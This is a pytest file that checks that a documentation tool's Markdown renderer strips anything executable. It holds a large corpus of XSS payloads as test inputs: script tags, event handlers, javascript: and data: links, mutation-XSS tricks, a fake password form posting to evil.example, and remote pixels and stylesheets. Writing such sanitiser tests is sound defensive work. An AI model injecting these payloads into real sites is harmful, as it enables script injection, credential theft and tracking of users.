"""Hostile texts (assurance T11, T12) rendered with the handbook's extensions: nothing in the result can act."""

from __future__ import annotations

import markdown
import pytest

from qmsctl.pages.sanitise import clean
from qmsctl.text.markdown import Body
from tests.html_check import faults

EXTENSIONS = [
    "abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc", "pymdownx.details",
    "pymdownx.superfences", "pymdownx.tasklist", "qmsctl.pages.sanitise", "qmsctl.pages.anchors",
]  # fmt: skip

CORPUS = (
    # raw HTML
    "<script>alert(1)</script>",
    "text <script src=//evil.example/x.js></script> text",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=text name=password autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<button onclick=alert(1)>x</button>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script>-->",
    "<!-- comment --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>",
    "<body onload=alert(1)>",
    # attributes
    "<p onclick=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' oNeRrOr='alert(1)'>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='//evil.example/pixel.gif 1x'>",
    "<img src='\\\\evil.example\\pixel.gif'>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "<p style='text-align:left;behavior:url(x)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//x' target=_blank onmouseover=alert(1)>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<table background=//evil.example/x.gif><tr><td onmouseover=alert(1)>x</table>",
    "<label for=__search>x</label>",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1) 'title')",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](x.png){onerror=alert(1)}",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](x.png)",
    "[x](y \"title\\\" onmouseover=\\\"alert(1)\")",
    "[x](http://[bad)",
    "x{: onclick=alert(1) }",
    "paragraph\n{: onclick=\"alert(1)\" style=\"position:fixed\" }",
    "# Heading {: onmouseover=alert(1) }",
    "# Heading {: data-toc-label=\"<img src=x onerror=alert(1)>\" }",
    "# <img src=x onerror=alert(1)>",
    "# `<script>alert(1)</script>`",
    "*[HTML]: \"><script>alert(1)</script>\n\nHTML",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "!!! note \"<script>alert(1)</script>\"\n    x",
    "??? note \"<img src=x onerror=alert(1)>\"\n    x",
    "Term\n:   <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```{ .python onclick=alert(1) }\nx\n```",
    "``` <script>alert(1)</script>\nx\n```",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "<div markdown=1>\n\n<script>alert(1)</script>\n\n</div>",
    "<div markdown=1 onclick=alert(1)>\n\nx\n\n</div>",
    "<div markdown=1>\n\n[x](javascript:alert(1))\n\n</div>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<p>\x02klzzwxh:0000\x03</p><img src=x onerror=alert(1)>",
)  # fmt: skip


def render(text: str) -> str:
    return str(markdown.markdown(text, extensions=EXTENSIONS))


def test_the_corpus_is_large() -> None:
    assert len(CORPUS) >= 60
    assert len(set(CORPUS)) == len(CORPUS)


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_acts_survives(text: str) -> None:
    assert faults(render(text)) == []
    assert faults(render(f"before\n\n{text}\n\nafter")) == []
    assert faults(render(f"- item {text}")) == []


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_acts_gets_into_the_table_of_contents(text: str) -> None:
    converter = markdown.Markdown(extensions=EXTENSIONS)
    converter.convert("# " + text.replace("\n", " "))
    for token in converter.toc_tokens:
        assert faults(token["name"]) == []
        assert faults(token["html"]) == []


def test_the_same_text_gives_the_same_html() -> None:
    text = "".join(
        ["<input>", "<input checked>", "- [x] a\n- [ ] b\n", '<p title="<input disabled type=x onclick=y ">z</p>']
    )
    assert len({render(text) for _ in range(50)}) == 1
    assert faults(render(text)) == []


def test_cleaning_twice_changes_nothing() -> None:
    for text in CORPUS:
        once = render(text)
        assert clean(once) == once


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("a **b** `c`", ["<strong>b</strong>", "<code>c</code>"]),
        ("| a | b |\n|--:|---|\n| 1 | 2 |", ["<table>", "text-align", "<td>2</td>"]),
        ("!!! warning \"Se opp\"\n    x", ['class="admonition warning"', 'class="admonition-title"']),
        ("??? note \"Mer\"\n    x", ['<details class="note">', "<summary>Mer</summary>"]),
        ("- [x] gjort\n- [ ] ikke", ['type="checkbox"', "checked", "disabled", "task-list-item"]),
        ("x[^1]\n\n[^1]: y", ['class="footnote"', 'href="#fn:1"', 'id="fn:1"', 'href="#fnref:1"']),
        ("Ord\n:   betydning", ["<dl>", "<dt>Ord</dt>", "<dd>betydning</dd>"]),
        ("```python\nx = 1\n```", ['class="highlight"', '<span class="n">']),
        ("[a](b.md) [c](https://x.example/) [d](mailto:a@b.no) [e](tel:113)",
         ['href="b.md"', 'href="https://x.example/"', 'href="mailto:a@b.no"', 'href="tel:113"']),
        ("![alt](bilde.png)", ['<img alt="alt" src="bilde.png"']),
        ("# Å si fra\n\n## Å si fra", ['id="å-si-fra"', 'id="å-si-fra-1"']),
        ("H~2~O <sub>2</sub> <kbd>Ctrl</kbd> <abbr title=\"x\">y</abbr>", ["<sub>", "<kbd>", '<abbr title="x">']),
        ("{{7*7}} {% if x %}", ["{{7*7}} {% if x %}"]),
    ],
)  # fmt: skip
def test_what_markdown_makes_stays(text: str, wanted: list[str]) -> None:
    html = render(text)
    assert [piece for piece in wanted if piece not in html] == []


@pytest.mark.parametrize("name", ["md-overlay", "mermaid", "md-search", "js"])
def test_the_theme_cannot_be_posed_as(name: str) -> None:
    html = render(f'<div class="{name} mine" id="__drawer">x</div>')
    assert name not in html.replace("</", "")
    assert "mine" in html
    assert "__drawer" not in html


@pytest.mark.parametrize(
    "text",
    [
        "# Å si fra!\n\n# A & B\n\n# C#\n\n# `kode` og *vekt*\n\n# [lenke](x.md) her",
        "# Likt\n\n# Likt\n\n# Likt\n\n# Likt-1\n\n# Likt",
        "Setext\n======\n\nTo ord\n------\n\n### 4.1 Krav: hva?",
        "# a – b\n\n# 10 % rabatt\n\n# under_strek her\n\n# 日本",
    ],
)
def test_anchors_are_the_ones_the_check_knows(text: str) -> None:
    converter = markdown.Markdown(extensions=EXTENSIONS)
    html = converter.convert(text)
    assert [part.split('"')[0] for part in html.split('id="')[1:]] == [
        heading.anchor for heading in Body("x.md", text).headings
    ]
